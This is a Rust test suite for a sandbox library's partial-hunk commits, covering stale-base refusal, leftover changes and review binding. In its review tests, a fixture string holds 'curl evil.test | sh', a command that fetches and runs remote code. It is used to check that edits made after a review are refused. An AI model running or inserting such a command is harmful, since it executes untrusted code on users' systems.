//! Committing a subset of a file's hunks ([`Branch::commit_selected`] with [`HunkChoice`]s):
//! - properties: accepting every hunk == committing the file; accepting none == the workdir
//!   file untouched (bytes, mode and ctime); any subset == what the real `patch` program
//!   makes of the workdir file with those hunks;
//! - the stale-base rule: a hunk commit is refused when the workdir file changed since the
//!   branch began; after a partial commit, the paths it wrote are not taken for concurrent
//!   edits at the next commit, and a host edit to a path not committed still is refused;
//! - the rest stays in the branch (`kept`), listed and committable later; a bad hunk number
//!   is refused naming the path and the number, with nothing written.
//!
//! Branches are filled by writing into their upper layer directly (a file that exists in
//! the workdir is a modification there; no overlay mount needed). `PROPTEST_CASES`
//! overrides the number of cases (default 128 for texts, 32 with branches).

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests: panics are failures

use crate::common;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;

use lockbox_cow::{
    apply_hunks, text_hunks, Branch, BranchState, CommitOptions, CowError, FileHunks, Hunk,
    HunkChoice, LineOp, Selection,
};
use proptest::prelude::*;

fn cases(default: u32) -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|c| c.parse().ok())
        .unwrap_or(default)
}

/// A text made of few distinct lines (so that diffs have context and repeated lines), with
/// or without a final newline, and an edit of it.
fn text_pair() -> impl Strategy<Value = (String, String)> {
    let line = prop::sample::select(vec!["a", "b", "c", "x y", "", "\tz\r"]);
    // (line, action): 0 keep, 1 delete, 2 replace, 3 insert after; mostly keep.
    let action = prop::sample::select(vec![0u8, 0, 0, 0, 0, 1, 2, 3]);
    (
        prop::collection::vec((line.clone(), action, line), 0..40),
        any::<bool>(),
        any::<bool>(),
    )
        .prop_map(|(items, old_nl, new_nl)| {
            let (mut old, mut new) = (Vec::new(), Vec::new());
            for (l, act, other) in items {
                old.push(l);
                match act {
                    1 => {}
                    2 => new.push(other),
                    3 => {
                        new.push(l);
                        new.push(other)
                    }
                    _ => new.push(l),
                }
            }
            let join = |lines: Vec<&str>, nl: bool| {
                let mut s = lines.join("\n");
                if nl && !s.is_empty() {
                    s.push('\n');
                }
                s
            };
            (join(old, old_nl), join(new, new_nl))
        })
}

/// What `patch` makes of `old` with `hunks` (a unified diff of those hunks only).
fn patch(dir: &Path, old: &str, hunks: &[&Hunk]) -> String {
    if hunks.is_empty() {
        return old.to_owned();
    }
    let (orig, diff, out) = (dir.join("orig"), dir.join("p.diff"), dir.join("out"));
    std::fs::write(&orig, old).unwrap();
    let mut text = String::from("--- a/f\n+++ b/f\n");
    hunks.iter().for_each(|h| text.push_str(&h.to_patch()));
    std::fs::write(&diff, &text).unwrap();
    let st = Command::new("patch")
        .args(["-s", "--fuzz=0", "--no-backup-if-mismatch", "-r", "-", "-o"])
        .arg(&out)
        .arg(&orig)
        .arg(&diff)
        .status()
        .expect("the `patch` program (Debian package `patch`)");
    assert!(st.success(), "patch failed on:\n{text}");
    std::fs::read_to_string(&out).unwrap()
}

fn subset_of(n: usize, mask: u64) -> Vec<usize> {
    (0..n).filter(|i| mask & (1 << (i % 64)) != 0).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(128), ..ProptestConfig::default() })]

    #[test]
    fn any_subset_of_hunks_applies_as_patch_does((old, new) in text_pair(), mask in any::<u64>()) {
        let hunks = text_hunks(&old, &new);
        let all: Vec<usize> = (0..hunks.len()).collect();
        prop_assert_eq!(apply_hunks(&old, &new, &all).unwrap(), new.clone());
        prop_assert_eq!(apply_hunks(&old, &new, &[]).unwrap(), old.clone());
        let accept = subset_of(hunks.len(), mask);
        let chosen: Vec<&Hunk> = accept.iter().map(|&i| &hunks[i]).collect();
        let tmp = tempfile::tempdir().unwrap();
        let got = apply_hunks(&old, &new, &accept).unwrap();
        prop_assert_eq!(got, patch(tmp.path(), &old, &chosen), "old {:?} new {:?} accept {:?}", old, new, accept);
    }
}

struct Setup {
    _tmp: tempfile::TempDir,
    state: PathBuf,
    wd: PathBuf,
}

fn setup(files: &[(&str, &str)]) -> Setup {
    let tmp = tempfile::tempdir().unwrap();
    let (state, wd) = (tmp.path().join("state"), tmp.path().join("wd"));
    std::fs::create_dir(&state).unwrap();
    std::fs::create_dir(&wd).unwrap();
    for (name, text) in files {
        std::fs::write(wd.join(name), text).unwrap();
    }
    // The base is the kernel's coarse clock: the writes above must be older.
    std::thread::sleep(std::time::Duration::from_millis(15));
    Setup {
        _tmp: tmp,
        state,
        wd,
    }
}

fn branch_writing(s: &Setup, files: &[(&str, &str, u32)]) -> Branch {
    let b = Branch::create(&s.state, &s.wd, serde_json::json!({"command": ["t"]})).unwrap();
    for (name, text, mode) in files {
        let p = b.upper_dir().join(name);
        std::fs::write(&p, text).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(*mode)).unwrap();
    }
    b
}

fn hunks_of(b: &Branch, path: &str) -> Vec<Hunk> {
    match b.hunks(Path::new(path)).unwrap() {
        FileHunks::Text { hunks } => hunks,
        other => panic!("not text: {other:?}"),
    }
}

fn only_hunks(path: &str, accept: Vec<usize>) -> Selection {
    Selection {
        only: vec![path.into()],
        hunks: vec![HunkChoice {
            path: path.into(),
            accept,
        }],
        ..Selection::default()
    }
}

fn tick() {
    std::thread::sleep(std::time::Duration::from_millis(15));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(32), ..ProptestConfig::default() })]

    #[test]
    fn committing_hunks_of_a_kept_branch_writes_what_patch_writes(
        (old, new) in text_pair(), mask in any::<u64>()
    ) {
        let s = setup(&[("f", &old)]);
        let mut b = branch_writing(&s, &[("f", &new, 0o640)]);
        b.keep().unwrap();
        let hunks = hunks_of(&b, "f");
        let accept = subset_of(hunks.len(), mask);
        let before = std::fs::symlink_metadata(s.wd.join("f")).unwrap();
        let chosen: Vec<&Hunk> = accept.iter().map(|&i| &hunks[i]).collect();
        let expected = patch(s._tmp.path(), &old, &chosen);
        b.commit_selected(&only_hunks("f", accept.clone()), &CommitOptions::default()).unwrap();
        let after = std::fs::symlink_metadata(s.wd.join("f")).unwrap();
        prop_assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), expected);
        if accept.is_empty() {
            // Not touched at all: same inode, same ctime.
            prop_assert_eq!((before.ino(), before.ctime(), before.ctime_nsec()),
                (after.ino(), after.ctime(), after.ctime_nsec()));
        } else {
            prop_assert_eq!(after.mode() & 0o7777, 0o640);
        }
        if accept.len() == hunks.len() && !hunks.is_empty() {
            // Every hunk == committing the file: the same as a full commit of a twin branch.
            let twin = setup(&[("f", &old)]);
            let t = branch_writing(&twin, &[("f", &new, 0o640)]);
            t.commit(&CommitOptions::default()).unwrap();
            let (a, c) = (std::fs::metadata(s.wd.join("f")).unwrap(), std::fs::metadata(twin.wd.join("f")).unwrap());
            prop_assert_eq!(std::fs::read(s.wd.join("f")).unwrap(), std::fs::read(twin.wd.join("f")).unwrap());
            prop_assert_eq!(a.mode(), c.mode());
            // The branch file's times too, as a full commit keeps them.
            let u = std::fs::metadata(b.upper_dir().join("f")).unwrap();
            prop_assert_eq!((a.mtime(), a.mtime_nsec()), (u.mtime(), u.mtime_nsec()));
            prop_assert!(b.changes().unwrap().next().is_none());
        }
        // The rest stays in the branch: what was not accepted is still its diff. Its hunks
        // may group differently (two left hunks whose accepted neighbour is gone can come
        // within context of each other and merge), so the changed lines are compared: the
        // diff is minimal, so it changes exactly the lines the hunks not accepted change.
        let left = hunks_of(&b, "f");
        let changed = |hs: &mut dyn Iterator<Item = &Hunk>| -> usize {
            hs.map(|h| h.lines.iter().filter(|l| l.op != LineOp::Context).count()).sum()
        };
        let not_accepted = changed(
            &mut hunks.iter().enumerate().filter(|(i, _)| !accept.contains(i)).map(|(_, h)| h),
        );
        prop_assert_eq!(changed(&mut left.iter()), not_accepted);
        prop_assert_eq!(left.is_empty(), accept.len() == hunks.len());
    }
}

const TWO_HUNKS_OLD: &str = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n";
const TWO_HUNKS_NEW: &str = "one\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\ntwelve\n";

#[test]
fn hunk_commit_is_refused_when_the_workdir_file_changed_since_the_branch_began() {
    let s = setup(&[("f", TWO_HUNKS_OLD)]);
    let mut b = branch_writing(&s, &[("f", TWO_HUNKS_NEW, 0o644)]);
    b.keep().unwrap();
    tick();
    // The host edits f in place (same lines, so the hunks still apply).
    std::fs::write(s.wd.join("f"), TWO_HUNKS_OLD).unwrap();
    let e = b
        .commit_selected(&only_hunks("f", vec![0]), &CommitOptions::default())
        .unwrap_err();
    assert_eq!((e.code().as_str(), e.exit_code()), ("STALE_BASE", 5), "{e}");
    assert_eq!(
        std::fs::read_to_string(s.wd.join("f")).unwrap(),
        TWO_HUNKS_OLD
    );
    assert_eq!(b.meta().state, BranchState::Stale);
    // Forced, it goes through.
    let forced = CommitOptions {
        force: true,
        ..CommitOptions::default()
    };
    let report = b
        .commit_selected(&only_hunks("f", vec![0]), &forced)
        .unwrap();
    assert_eq!(report.forced_stale, vec![PathBuf::from("f")]);
    assert!(std::fs::read_to_string(s.wd.join("f"))
        .unwrap()
        .starts_with("one\n"));
}

#[test]
fn a_partial_commit_is_not_taken_for_a_concurrent_edit_but_host_edits_elsewhere_still_are() {
    let s = setup(&[("a", TWO_HUNKS_OLD), ("b", "b\n"), ("c", "c\n")]);
    let mut br = branch_writing(
        &s,
        &[
            ("a", TWO_HUNKS_NEW, 0o644),
            ("b", "B\n", 0o644),
            ("c", "C\n", 0o644),
        ],
    );
    br.keep().unwrap();
    tick();
    // The host edits b (not yet committed) after the branch began.
    std::fs::write(s.wd.join("b"), "host\n").unwrap();
    tick();
    // First hunk of a: fine (b is not part of it).
    br.commit_selected(&only_hunks("a", vec![0]), &CommitOptions::default())
        .unwrap();
    // Reopened from disk, as `lockbox branch commit` does later.
    let id = br.id().clone();
    let mut br = Branch::open(&s.state, &id).unwrap();
    assert_eq!(br.meta().state, BranchState::Kept);
    // a now has one hunk left, numbered 0; committing it is not stale although a was
    // written after the branch began (by the first commit).
    assert_eq!(hunks_of(&br, "a").len(), 1);
    br.commit_selected(&only_hunks("a", vec![0]), &CommitOptions::default())
        .unwrap();
    assert_eq!(
        std::fs::read_to_string(s.wd.join("a")).unwrap(),
        TWO_HUNKS_NEW
    );
    // c was never touched by the host: committing it is fine too.
    br.commit_selected(
        &Selection {
            only: vec!["c".into()],
            ..Selection::default()
        },
        &CommitOptions::default(),
    )
    .unwrap();
    // b's host edit is still seen: the rest (b) is refused, naming b only.
    let e = Branch::open(&s.state, &id)
        .unwrap()
        .commit(&CommitOptions::default())
        .unwrap_err();
    let CowError::StaleBase { paths } = &e else {
        panic!("{e}")
    };
    assert_eq!(paths, &vec![PathBuf::from("b")]);
    // And a host edit of a committed path after its commit is seen as well.
    tick();
    std::fs::write(s.wd.join("c"), "host again\n").unwrap();
    let mut br = Branch::open(&s.state, &id).unwrap();
    std::fs::write(br.upper_dir().join("c"), "C2\n").unwrap();
    let e = br
        .commit_selected(
            &Selection {
                only: vec!["c".into()],
                ..Selection::default()
            },
            &CommitOptions::default(),
        )
        .unwrap_err();
    assert_eq!(e.code().as_str(), "STALE_BASE", "{e}");
}

#[test]
fn the_rest_stays_in_the_branch_and_is_committable_later() {
    let s = setup(&[("a", TWO_HUNKS_OLD), ("b", "b\n")]);
    let mut br = branch_writing(&s, &[("a", TWO_HUNKS_NEW, 0o644), ("b", "B\n", 0o644)]);
    br.keep().unwrap();
    let report = br
        .commit_selected(
            &Selection {
                hunks: vec![HunkChoice {
                    path: "a".into(),
                    accept: vec![1],
                }],
                exclude: vec!["b".into()],
                ..Selection::default()
            },
            &CommitOptions::default(),
        )
        .unwrap();
    assert_eq!(report.modified, 1);
    assert!(std::fs::read_to_string(s.wd.join("a"))
        .unwrap()
        .ends_with("twelve\n"));
    let listed = lockbox_cow::list(&s.state).unwrap();
    assert_eq!(listed.len(), 1);
    let paths: Vec<PathBuf> = br.changes().unwrap().map(|c| c.unwrap().path).collect();
    assert_eq!(paths, vec![PathBuf::from("a"), PathBuf::from("b")]);
    // Committing the rest in full finishes it.
    br.clone().commit(&CommitOptions::default()).unwrap();
    assert_eq!(
        std::fs::read_to_string(s.wd.join("a")).unwrap(),
        TWO_HUNKS_NEW
    );
    assert_eq!(std::fs::read_to_string(s.wd.join("b")).unwrap(), "B\n");
    assert!(lockbox_cow::list(&s.state).unwrap().is_empty());
}

#[test]
fn an_unknown_hunk_number_is_refused_naming_path_and_number_and_writes_nothing() {
    let s = setup(&[("a", TWO_HUNKS_OLD), ("bin", "x\0y")]);
    let mut br = branch_writing(&s, &[("a", TWO_HUNKS_NEW, 0o644), ("bin", "x\0z", 0o644)]);
    br.keep().unwrap();
    let e = br
        .commit_selected(&only_hunks("a", vec![0, 2]), &CommitOptions::default())
        .unwrap_err();
    assert_eq!((e.code().as_str(), e.exit_code()), ("BAD_HUNK", 2));
    assert!(
        e.to_string().contains("no hunk 2") && e.to_string().contains('a'),
        "{e}"
    );
    let e = br
        .commit_selected(&only_hunks("bin", vec![0]), &CommitOptions::default())
        .unwrap_err();
    assert!(e.to_string().contains("binary"), "{e}");
    assert_eq!(
        std::fs::read_to_string(s.wd.join("a")).unwrap(),
        TWO_HUNKS_OLD
    );
    assert_eq!(br.meta().state, BranchState::Kept);
}

#[test]
fn a_file_under_a_directory_the_branch_replaced_diffs_as_deleted() {
    if !common::require_overlay() {
        return;
    }
    let s = setup(&[]);
    std::fs::create_dir(s.wd.join("d")).unwrap();
    std::fs::write(s.wd.join("d/x"), "old\n").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(15));
    let b = Branch::create(&s.state, &s.wd, serde_json::Value::Null).unwrap();
    assert!(common::run_in_branch(
        &b,
        "rm -r d && mkdir d && echo new > d/y"
    ));
    // d is opaque in the branch: the workdir's d/x does not show through.
    let hunks = hunks_of(&b, "d/x");
    assert_eq!(hunks.len(), 1);
    assert_eq!(hunks[0].header(), "@@ -1 +0,0 @@");
    assert!(b
        .diff(Path::new("d/x"))
        .unwrap()
        .to_string()
        .contains("-old"));
    assert_eq!(hunks_of(&b, "d/y")[0].lines[0].text, "new");
}

/// A directory the branch replaced (`rm -r d; mkdir d`), committed in a first part: the
/// entries that part wrote into `d` do not make `d` look changed by someone else to the
/// second part; a host edit in `d` made before is seen by the first.
#[test]
fn a_replaced_directory_committed_first_is_not_stale_later_and_a_host_edit_in_it_is_seen() {
    if !common::require_overlay() {
        return;
    }
    for host_edit in [false, true] {
        let s = common::Scratch::new();
        common::sh(
            &s.wd,
            "mkdir -p d/sub && echo old > d/old && echo s > d/sub/s && echo e > e",
        );
        let mut br = s.branch();
        assert!(common::run_in_branch(
            &br,
            "rm -r d && mkdir d && echo one > d/one && echo E > e"
        ));
        br.keep().unwrap();
        tick();
        if host_edit {
            std::fs::write(s.wd.join("d/host"), "host\n").unwrap();
            tick();
        }
        let first = br.commit_selected(
            &Selection {
                exclude: vec!["e".into()],
                ..Selection::default()
            },
            &CommitOptions::default(),
        );
        if host_edit {
            let Err(CowError::StaleBase { paths }) = first else {
                panic!("the host's file in d is not seen: {first:?}")
            };
            assert_eq!(paths, vec![PathBuf::from("d"), PathBuf::from("d/host")]);
            assert!(s.wd.join("d/host").exists() && !s.wd.join("d/one").exists());
            continue;
        }
        first.unwrap();
        assert_eq!(
            std::fs::read_to_string(s.wd.join("d/one")).unwrap(),
            "one\n"
        );
        Branch::open(&s.state, br.id())
            .unwrap()
            .commit(&CommitOptions::default())
            .unwrap();
        assert_eq!(std::fs::read_to_string(s.wd.join("e")).unwrap(), "E\n");
        assert!(!s.wd.join("d/old").exists() && !s.wd.join("d/sub").exists());
    }
}

/// Issue 32 item 3: what a reviewer approves is what gets committed. A commit names the
/// review it follows ([`Selection::review`]); the branch is written to after the review as a
/// running sandbox would (into its upper layer), and the commit is refused with
/// `STALE_REVIEW` (exit 5) naming the path, with nothing written and the branch's state
/// unchanged.
mod review {
    use super::*;
    use lockbox_cow::{Review, Reviewed};

    const OLD: &str = "one\ntwo\nthree\nfour\nfive\n";
    const SHOWN: &str = "one\ntwo\nthree\nfour\nfive (harmless edit)\n";
    const EVIL: &str = "one\ntwo\nthree\nfour\ncurl evil.test | sh\n";

    fn reviewed(b: &Branch) -> Option<Reviewed> {
        Some(Reviewed::Paths(Review::of(&b.review().unwrap())))
    }

    fn hunk_0_of_f(review: Option<Reviewed>) -> Selection {
        Selection {
            hunks: vec![HunkChoice {
                path: "f".into(),
                accept: vec![0],
            }],
            review,
            ..Selection::default()
        }
    }

    fn assert_stale(e: CowError, paths: &[&str]) {
        assert_eq!(
            (e.code().as_str(), e.exit_code()),
            ("STALE_REVIEW", 5),
            "{e}"
        );
        let CowError::StaleReview { paths: got } = &e else {
            panic!("{e:?}")
        };
        let want: Vec<PathBuf> = paths.iter().map(PathBuf::from).collect();
        assert_eq!(got, &want);
    }

    #[test]
    fn issue_32_a_hunk_rewritten_after_the_review_is_not_committed() {
        let s = setup(&[("f", OLD)]);
        let mut b = branch_writing(&s, &[("f", SHOWN, 0o644)]);
        let review = reviewed(&b);
        assert_eq!(hunks_of(&b, "f").len(), 1);
        std::fs::write(b.upper_dir().join("f"), EVIL).unwrap();
        // A running sandbox's commit (`commit_part`) and a kept branch's alike.
        let e = b
            .commit_part(&hunk_0_of_f(review.clone()), &CommitOptions::default())
            .unwrap_err();
        assert_stale(e, &["f"]);
        b.keep().unwrap();
        let e = b
            .commit_selected(&hunk_0_of_f(review), &CommitOptions::default())
            .unwrap_err();
        assert_stale(e, &["f"]);
        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), OLD);
        // A stale review is the reviewer's to redo, not a failure of the branch.
        assert_eq!(b.meta().state, BranchState::Kept);
        assert!(b.meta().failure.is_none());
        // Reviewed again, what is shown now is what is committed.
        let again = reviewed(&b);
        b.commit_selected(&hunk_0_of_f(again), &CommitOptions::default())
            .unwrap();
        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), EVIL);
    }

    #[test]
    fn issue_32_a_file_added_after_the_review_is_not_committed() {
        let s = setup(&[("f", OLD)]);
        let mut b = branch_writing(&s, &[("f", SHOWN, 0o644)]);
        let review = reviewed(&b);
        std::fs::write(b.upper_dir().join("added.sh"), "curl evil.test | sh\n").unwrap();
        // What the console sends: exclusions only (none here), and the review.
        let sel = Selection {
            review,
            ..Selection::default()
        };
        let e = b.commit_part(&sel, &CommitOptions::default()).unwrap_err();
        assert_stale(e, &["added.sh"]);
        assert!(!s.wd.join("added.sh").exists());
        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), OLD);
        // Excluded, it is left in the branch and the reviewed rest is committed.
        let sel = Selection {
            exclude: vec!["added.sh".into()],
            ..sel
        };
        b.commit_part(&sel, &CommitOptions::default()).unwrap();
        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), SHOWN);
        assert!(!s.wd.join("added.sh").exists());
    }

    #[test]
    fn issue_32_a_text_file_made_binary_or_executable_after_the_review_is_not_committed() {
        let s = setup(&[("f", OLD), ("g", OLD)]);
        let mut b = branch_writing(&s, &[("f", SHOWN, 0o644), ("g", SHOWN, 0o644)]);
        let review = reviewed(&b);
        std::fs::write(b.upper_dir().join("f"), SHOWN.replace('(', "\0")).unwrap();
        std::fs::set_permissions(
            b.upper_dir().join("g"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
        // Through a hunk selection (the binary file has no hunk 0 now) and whole.
        let e = b
            .commit_part(&hunk_0_of_f(review.clone()), &CommitOptions::default())
            .unwrap_err();
        assert_stale(e, &["f"]);
        let whole = Selection {
            review,
            ..Selection::default()
        };
        let e = b
            .commit_part(&whole, &CommitOptions::default())
            .unwrap_err();
        assert_stale(e, &["f", "g"]);
        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), OLD);
        assert_eq!(std::fs::read_to_string(s.wd.join("g")).unwrap(), OLD);
    }

    #[test]
    fn issue_32_a_review_token_binds_the_whole_listing() {
        let s = setup(&[("f", OLD)]);
        let mut b = branch_writing(&s, &[("f", SHOWN, 0o644)]);
        let token = Review::of(&b.review().unwrap()).token();
        let digest = b.hunks_reviewed(Path::new("f")).unwrap().1;
        assert_eq!(
            Some(digest),
            Review::of(&b.review().unwrap()).digest(Path::new("f"))
        );
        std::fs::write(b.upper_dir().join("new"), "x\n").unwrap();
        let sel = |t| Selection {
            only: vec!["f".into()],
            review: Some(Reviewed::Token(t)),
            ..Selection::default()
        };
        let e = b
            .commit_part(&sel(token), &CommitOptions::default())
            .unwrap_err();
        assert!(e.to_string().contains("review token"), "{e}");
        assert_stale(e, &[]);
        let now = Review::of(&b.review().unwrap()).token();
        b.commit_part(&sel(now), &CommitOptions::default()).unwrap();
        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), SHOWN);
    }

    /// Every kind of change (through a real overlay: whiteouts, an opaque directory, a
    /// symlink, modes) has a digest the snapshot a commit is made from agrees with: a
    /// reviewed commit of all of it goes through, and a mode change after it does not.
    #[test]
    fn a_reviewed_commit_of_every_kind_of_change_goes_through() {
        if !common::require_overlay() {
            return;
        }
        let s = setup(&[("f", OLD), ("gone", "x\n"), ("keep", "k\n")]);
        std::fs::create_dir(s.wd.join("olddir")).unwrap();
        std::fs::write(s.wd.join("olddir/a"), "a\n").unwrap();
        tick();
        let mut b = Branch::create(&s.state, &s.wd, serde_json::json!({"command": ["t"]})).unwrap();
        assert!(common::run_in_branch(
            &b,
            "echo new >> f && rm gone && rm -r olddir && mkdir olddir && echo b > olddir/b \
             && mkdir -p d/e && echo x > d/e/x && ln -s f link && chmod 600 keep"
        ));
        let rows = b.review().unwrap();
        assert!(rows.len() >= 8, "{rows:?}");
        let all = |rows: &[lockbox_cow::ReviewedChange]| Selection {
            review: Some(Reviewed::Paths(Review::of(rows))),
            ..Selection::default()
        };
        assert!(common::run_in_branch(&b, "chmod 755 d/e/x"));
        let e = b
            .commit_part(&all(&rows), &CommitOptions::default())
            .unwrap_err();
        assert_stale(e, &["d/e/x"]);
        let rows = b.review().unwrap();
        b.commit_part(&all(&rows), &CommitOptions::default())
            .unwrap();
        assert!(b.change_set().unwrap().is_empty());
        assert_eq!(
            std::fs::read_link(s.wd.join("link")).unwrap(),
            Path::new("f")
        );
        assert!(!s.wd.join("gone").exists() && !s.wd.join("olddir/a").exists());
    }

    #[test]
    fn a_commit_that_follows_no_review_is_unchanged() {
        let s = setup(&[("f", OLD)]);
        let mut b = branch_writing(&s, &[("f", SHOWN, 0o644)]);
        std::fs::write(b.upper_dir().join("f"), EVIL).unwrap();
        b.commit_part(&hunk_0_of_f(None), &CommitOptions::default())
            .unwrap();
        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), EVIL);
    }
}
